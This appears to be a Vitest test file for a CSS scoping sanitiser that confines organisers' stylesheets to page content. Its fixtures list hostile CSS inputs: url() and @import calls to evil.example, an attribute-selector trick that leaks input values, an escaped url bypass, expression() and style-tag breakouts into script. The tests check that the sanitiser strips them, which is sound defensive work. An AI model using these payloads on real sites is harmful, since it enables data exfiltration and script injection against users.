import { describe, expect, test } from "vitest"
import { scopeCss } from "./scope-css.ts"

describe("organisers' CSS", () => {
  test("stays inside the pages' content", () => {
    expect(scopeCss(".hero, h1 > a { color: red }")).toBe(".page-content .hero, .page-content h1 > a { color: red }")
    expect(scopeCss("body { margin: 0 } html .x { top: 0 }")).toBe(
      ".page-content { margin: 0 } .page-content .x { top: 0 }",
    )
    expect(scopeCss("@media (min-width: 40rem) { p { margin: 0 } }")).toContain(".page-content p")
    expect(scopeCss("@keyframes hop { from { top: 0 } to { top: 1px } }")).toContain("from { top: 0 }")
  })

  test.each([
    "@import url('https://evil.example/x.css');",
    "@font-face { font-family: x; src: url(https://evil.example/x.woff2) }",
    "p { background: url(https://evil.example/leak) }",
    "p { background: u\\72l(https://evil.example) }",
    "p { background: image-set('https://evil.example/a.png' 1x) }",
    "input[value^=a] { background-image: URL( 'https://evil.example/a' ) }",
    "p { behavior: url(x.htc) }",
    "p { width: expression(alert(1)) }",
    "</style><script>alert(1)</script>",
    "p { color: red } </style><img src=x onerror=alert(1)>",
    "@charset 'utf-8'; @namespace url(http://evil.example);",
    "@property --x { syntax: '*'; inherits: false }",
  ])("%s fetches nothing, runs nothing, ends nothing", (css) => {
    expect(scopeCss(css)).not.toMatch(/evil|url\(|<|expression|@import|@font-face|@namespace|@charset/i)
  })

  test("nothing can be laid over the shell", () => {
    expect(scopeCss(".x { position: fixed; inset: 0; color: red }")).toBe(".page-content .x { inset: 0; color: red }")
  })

  test("what does not parse is dropped whole", () => {
    expect(scopeCss("p { color: red")).toMatch(/^$|page-content/)
    expect(scopeCss("}}}} p { color: red }")).toBe("")
  })
})
